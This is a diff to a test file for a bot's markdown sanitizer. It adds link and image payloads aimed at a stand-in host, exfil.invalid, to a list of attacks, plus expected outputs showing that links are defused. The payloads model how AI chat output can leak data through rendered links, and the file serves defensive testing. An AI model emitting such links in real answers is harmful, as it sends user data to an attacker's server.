@@ -13,6 +13,9 @@ from bot.answering.inert import inert
 ATTACKS = [
     "[click here](https://exfil.invalid/p?d=CANARY)",
     '[x](https://exfil.invalid/p "title")',
+    "[`x`](https://exfil.invalid/p) [a `b` c](https://exfil.invalid/q)",
+    "![`x`](https://exfil.invalid/p) [`x](https://exfil.invalid/`)",
+    "[[`x`](a)](https://exfil.invalid/p)",
     "[x](<https://exfil.invalid/p q>)",
     "![pixel](https://exfil.invalid/i.png)",
     "[![pixel](https://exfil.invalid/i.png)](https://exfil.invalid/l)",
@@ -73,6 +76,8 @@ def test_no_markdown_reader_finds_a_link_an_image_or_html(attack: str, frame: st
         ("Open https://x.example/a_b.", "Open `https://x.example/a_b`."),
         ("Deploy <service> to `https://x.example`.", "Deploy `<service>` to `https://x.example`."),
         ("Use `[a](b)` and a[0].", "Use `[a](b)` and a[0]."),
+        ("Use [`a run`](./b.md#c) or [the `d` way](e).", "Use `a run` or the `d` way."),
+        ("```\n[`a`](https://x.example)\n```", "```\n[`a`](https://x.example)\n```"),
         ("```\n[a](https://x.example)\n```", "```\n[a](https://x.example)\n```"),
         ("2 * 3 [sic] (really): yes", "2 * 3 [sic] (really): yes"),
         ("at 10:00, see note: this", "at 10:00, see note: this"),
